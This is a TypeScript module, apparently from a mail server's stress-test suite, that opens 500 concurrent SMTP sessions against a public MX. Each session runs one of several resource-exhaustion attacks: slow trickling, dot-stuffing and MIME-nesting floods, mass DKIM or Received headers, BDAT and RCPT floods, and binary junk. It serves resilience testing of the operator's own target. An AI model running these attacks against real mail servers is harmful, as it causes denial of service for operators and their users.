/**
 * Attacks on the public MX, where anyone may send without a key: 500 sessions at the same time, from as many addresses.
 */
import { setTimeout as pause } from 'node:timers/promises'
import type { AttackSet } from './catalog.ts'
import type { HostileClient, AttackConnection } from './hostile.ts'
import { RECEIVING_DOMAIN } from './target.ts'

const MB = 1024 * 1024
/** Number of sessions of each of the two attackers. */
const SESSIONS = 250
const HEAD = 'From: app@one.example\r\nSubject: x\r\n'
const NESTED = 'Content-Type: message/rfc822\r\n\r\n'
const MULTIPART = 'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=a\r\n\r\n'
const SIGNATURE =
  'DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d=one.example; s=a; h=from; bh=AA==; b=AA==\r\n'

/** Sends the envelope of a message to the receiving domain, and DATA unless `data` is false. */
async function begin(wire: AttackConnection, data = true): Promise<boolean> {
  const dialog: [string, RegExp][] = [
    ['EHLO attacker.example', /^250 .*\r\n/m],
    ['MAIL FROM:<app@one.example>', /^250 .*\r\n/m],
    [`RCPT TO:<ada@${RECEIVING_DOMAIN}>`, /^250 .*\r\n/m],
    ...(data ? [['DATA', /^354 .*\r\n/m] satisfies [string, RegExp]] : []),
  ]
  for (const [said, expected] of dialog) {
    await wire.say(`${said}\r\n`)
    if (!(await wire.hear(expected))) return false
  }
  return true
}

/** Returns a function that sends a message of one shape, including its end. */
const message =
  (head: string, piece: string, times: number) =>
  async (wire: AttackConnection): Promise<void> => {
    if (!(await begin(wire))) return
    await wire.say(head)
    await wire.repeat(piece, times)
    await wire.say('\r\n\r\nHello\r\n.\r\n')
    await wire.hear(/^\d{3} .*\r\n/m, 60_000)
  }

/** Behaviors of the sessions, assigned in turn. */
const WAYS: ((wire: AttackConnection, hostile: HostileClient) => Promise<void>)[] = [
  async (wire, hostile) => {
    if (!(await begin(wire))) return
    await wire.say(`${HEAD}\r\n`)
    await wire.repeat(`${'x'.repeat(76)}\r\n`, 40_000)
    while (wire.open && !hostile.over) {
      await pause(Math.min(20_000, hostile.left))
      await wire.say('x')
    }
  },
  message(`${HEAD}\r\n`, '..\r\n', 6 * MB),
  message(HEAD + NESTED, NESTED, 0.8 * MB),
  message(HEAD + MULTIPART, '--a\r\n\r\n', MB),
  message(HEAD, SIGNATURE, 20_000),
  message(HEAD, 'Received: from a by mail.sender.example with SMTP; now\r\n', 20_000),
  async (wire) => {
    if (await begin(wire, false)) await wire.repeat('BDAT 1\r\nx', 60_000)
    await wire.hear(/never said/, 2000)
  },
  (wire) => wire.repeat('RCPT TO:<nobody@elsewhere.example>\r\n', 100_000),
  (wire) => wire.repeat('\0\xff', 4 * MB),
  async (wire, hostile) => {
    while (wire.open && !hostile.over) {
      await wire.say('a')
      await pause(Math.min(1000, hostile.left))
    }
  },
]

export const MX_ATTACKS: AttackSet = {
  'mx-sessions': {
    what: '500 sessions at the public MX: half-sent, nested, endless, slow and senseless',
    run: (hostile) =>
      hostile.swarm(SESSIONS, async (n) => {
        const wire = await hostile.open(hostile.target.mx, { address: n })
        if (!wire) return
        await wire.hear(/^220 .*\r\n/m)
        await WAYS[n % WAYS.length]!(wire, hostile)
        wire.close()
      }),
  },
}
